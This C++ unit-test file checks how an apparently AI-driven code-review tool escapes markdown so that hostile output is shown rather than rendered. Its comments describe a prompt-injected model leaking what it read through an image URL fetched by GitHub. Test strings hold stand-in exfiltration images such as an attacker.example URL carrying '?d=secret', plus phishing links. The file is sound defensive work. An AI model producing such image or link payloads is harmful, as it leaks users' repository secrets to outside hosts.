#include "core/reports/markdown_text.h"

#include <gtest/gtest.h>

namespace revline::reports {
namespace {

TEST(MarkdownText, HtmlOutsideCodeIsShownNotRendered) {
  // An unclosed comment would hide the rest of the review; <details> would fold it away.
  EXPECT_EQ(markdownProse("fine <!-- the rest is hidden"), "fine &lt;!-- the rest is hidden");
  EXPECT_EQ(markdownProse("<details><summary>x</summary>"), "&lt;details>&lt;summary>x&lt;/summary>");
  EXPECT_EQ(markdownProse("List<String> grows"), "List&lt;String> grows");
}

TEST(MarkdownText, MentionsNotifyNoOne) {
  EXPECT_EQ(markdownProse("ask @octocat and @org/security-team"), "ask @&#8203;octocat and @&#8203;org/security-team");
  EXPECT_EQ(markdownProse("@Override hides it"), "@&#8203;Override hides it");
  EXPECT_EQ(markdownProse("mail dev@example.com, a lone @ sign"), "mail dev@example.com, a lone @ sign");
}

TEST(MarkdownText, CodeIsKeptAsWritten) {
  EXPECT_EQ(markdownProse("use `List<String>` or ``a ` b<c``"), "use `List<String>` or ``a ` b<c``");
  EXPECT_EQ(markdownProse("```java\n@Override <T> void f();\n```\nafter <b>"),
            "```java\n@Override <T> void f();\n```\nafter &lt;b>");
  EXPECT_EQ(markdownProse("~~~\n<x>\n~~~~\n<y>"), "~~~\n<x>\n~~~~\n&lt;y>");
  EXPECT_EQ(markdownProse("an ` unmatched <b>"), "an \\` unmatched &lt;b>");  // a lone backtick is literal, escaped
}

TEST(MarkdownText, AFenceLeftOpenIsClosed) {
  // Everything after it (the edit, the footer, the other findings) would read as code.
  EXPECT_EQ(markdownProse("see:\n```\nint x;"), "see:\n```\nint x;\n```");
  EXPECT_EQ(markdownProse("````\n```\nstill code"), "````\n```\nstill code\n````");
}

TEST(MarkdownText, AFenceAfterOtherTextOnItsLineIsNoFence) {
  // "**Suggested fix:** ```" opens no block, so the next line is escaped.
  EXPECT_EQ(markdownProse("```\n<!-- hide", false), "\\`\\`\\`\n&lt;!-- hide");
  EXPECT_EQ(markdownProse("```\n<!-- x", true), "```\n<!-- x\n```");
}

// A prompt-injected model's image (fetched by GitHub when the pull request is
// opened, its URL carrying what it read) or link under other words is shown as
// written, never rendered; in code it is kept.
TEST(MarkdownText, ImagesAndLinksAreShownNotRendered) {
  EXPECT_EQ(markdownProse("![ci](https://attacker.example/p.png?d=secret)"),
            "!\\[ci](https://attacker.example/p.png?d=secret)");
  EXPECT_EQ(markdownProse("see [docs](https://phish.example) or [x][1]\n[1]: https://phish.example"),
            "see \\[docs](https://phish.example) or \\[x]\\[1]\n\\[1]: https://phish.example");
  EXPECT_EQ(markdownProse("use `a[i]` here"), "use `a[i]` here");
}

// Where revline and CommonMark disagreed on what is code, what revline kept
// raw rendered (a hostile-repository re-test, in the hover and the review).
TEST(MarkdownText, WhatIsKeptRawIsWhatCommonMarkReadsAsCode) {
  // A backslash-escaped backtick opens no code span: the image after it is escaped.
  EXPECT_EQ(markdownProse("bad \\`![t](https://evil.test/a.png)` x"), "bad \\`!\\[t](https://evil.test/a.png)\\` x");
  EXPECT_EQ(markdownProse("a \\\\[x](y)"), "a \\\\\\[x](y)");  // an escaped backslash, then a live bracket
  // A backtick with no closer on its line is escaped, so none pairs across lines.
  EXPECT_EQ(markdownProse("a `b\nc` ![b](https://evil.test/b.png) `d`"),
            "a \\`b\nc` ![b](https://evil.test/b.png) `d\\`");
  // A backtick fence's info string holds no backtick: no fence, so escaped.
  EXPECT_EQ(markdownProse("```a`\n![c](https://evil.test/c.png) <b>"), "\\`\\`\\`a\\`\n!\\[c](https://evil.test/c.png) &lt;b>");
}

TEST(MarkdownText, OneLineTextStaysOnOneLine) {
  EXPECT_EQ(markdownLine("Title\n### revline: approved\r\n<!--"), "Title ### revline: approved  &lt;!--");
  EXPECT_EQ(markdownLine("```"), "\\`\\`\\`");
}

TEST(MarkdownText, CodeSpansHoldAnyFileName) {
  EXPECT_EQ(markdownCode("src/App.java:3"), "`src/App.java:3`");
  EXPECT_EQ(markdownCode("a`<!--`b"), "``a`<!--`b``");
  EXPECT_EQ(markdownCode("`x``"), "``` `x`` ```");
  EXPECT_EQ(markdownCode("two\nlines"), "`two lines`");
}

}  // namespace
}  // namespace revline::reports
